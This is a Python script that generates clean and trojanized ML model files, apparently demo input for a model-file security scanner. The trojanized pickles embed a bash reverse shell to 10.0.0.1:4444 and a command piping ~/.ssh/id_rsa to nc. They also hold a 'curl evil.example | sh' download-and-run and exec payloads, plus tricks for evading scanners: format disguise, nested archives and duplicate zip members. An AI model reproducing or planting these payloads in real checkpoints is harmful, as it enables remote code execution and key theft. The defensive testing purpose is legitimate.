"""Build the bundled demo set: a few clean model files and a few trojanized ones.

Everything is generated in code (nothing here is ever loaded or executed): pickles are
assembled opcode by opcode with the test suite's ``PickleBuilder``, archives with the
standard library.  Usage: ``python demo/build_demo.py OUT_DIR``.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))

from builders.pickles import PickleBuilder, reduce_call  # noqa: E402


def torch_state_dict_pickle(payload: tuple[str, str, str] | None = None) -> bytes:
    """A torch.save-style data.pkl: OrderedDict{'fc.weight': tensor(storage '0')}.

    With ``payload`` (module, name, arg), an extra key's value is a call to that callable,
    which is how a trojanized checkpoint runs code the moment ``torch.load`` unpickles it.
    """
    p = PickleBuilder(protocol=2).proto()
    p.global_("collections", "OrderedDict").empty_tuple().reduce()
    p.binunicode("fc.weight")
    p.global_("torch._utils", "_rebuild_tensor_v2")
    p.mark()
    p.mark().binunicode("storage").global_("torch", "FloatStorage").binunicode("0")
    p.binunicode("cpu").binint1(4).tuple_().binpersid()
    p.binint1(0).binint1(2).binint1(2).tuple2().binint1(2).binint1(1).tuple2().false()
    p.global_("collections", "OrderedDict").empty_tuple().reduce()
    p.tuple_().reduce().setitem()
    if payload is not None:
        module, name, arg = payload
        p.binunicode("_metadata").global_(module, name).binunicode(arg).tuple1().reduce().setitem()
    return p.stop().bytes()


def torch_zip(data_pkl: bytes, *, extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/data/0", struct.pack("<4f", 0.1, 0.2, 0.3, 0.4))
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
        zf.writestr("archive/version", "3\n")
        zf.writestr("archive/.data/serialization_id", "0123456789")
    return buf.getvalue()


def safetensors_file() -> bytes:
    header = json.dumps({"fc.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                         "__metadata__": {"format": "pt"}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + struct.pack("<4f", 0.1, 0.2, 0.3, 0.4)


def npy_float() -> bytes:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
    header = header.ljust(118 - 1, b" ") + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + struct.pack("<4f", 1, 2, 3, 4)


def npy_object(payload: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(118 - 1, b" ") + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def tar_gz(members: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def build(out: Path) -> list[Path]:
    clean = out / "clean"
    bad = out / "trojanized"
    clean.mkdir(parents=True, exist_ok=True)
    bad.mkdir(parents=True, exist_ok=True)
    files = {
        clean / "resnet_tiny.pt": torch_zip(torch_state_dict_pickle()),
        clean / "resnet_tiny.safetensors": safetensors_file(),
        clean / "embeddings.npy": npy_float(),
        clean / "config.json": json.dumps({"architectures": ["TinyNet"], "hidden_size": 4}).encode(),
        # a reverse shell in a checkpoint that still loads and works
        bad / "reverse_shell.pt": torch_zip(
            torch_state_dict_pickle(("os", "system", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"))
        ),
        # a pickle renamed to look like a safe format
        bad / "model.safetensors": reduce_call("builtins", "exec", "import os; os.system('id')", protocol=4),
        # a stdlib gadget that denylist-only scanners miss
        bad / "optimizer.bin": reduce_call("pydoc", "pipepager", "", "cat ~/.ssh/id_rsa | nc 10.0.0.1 9", protocol=2),
        # an object array whose pickle runs code when numpy.load(allow_pickle=True) reads it
        bad / "features.npy": npy_object(reduce_call("subprocess", "Popen", "curl evil.example | sh", protocol=2)),
        # a payload nested three containers deep
        bad / "bundle.tar.gz": tar_gz({"model/weights.zip": torch_zip(
            torch_state_dict_pickle(("runpy", "_run_code", "print('pwned')")))}),
        # torch reads the first data.pkl; name-based scanners see the last
        bad / "duplicate_member.pt": _duplicate_data_pkl(),
    }
    for path, data in files.items():
        path.write_bytes(data)
    return sorted(files)


def _duplicate_data_pkl() -> bytes:
    evil = torch_state_dict_pickle(("os", "system", "id"))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", evil)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate name we want
            zf.writestr("archive/data.pkl", torch_state_dict_pickle())
        zf.writestr("archive/data/0", struct.pack("<4f", 0.1, 0.2, 0.3, 0.4))
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: build_demo.py OUT_DIR", file=sys.stderr)
        return 2
    paths = build(Path(argv[1]))
    print(f"built {len(paths)} demo files in {argv[1]}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
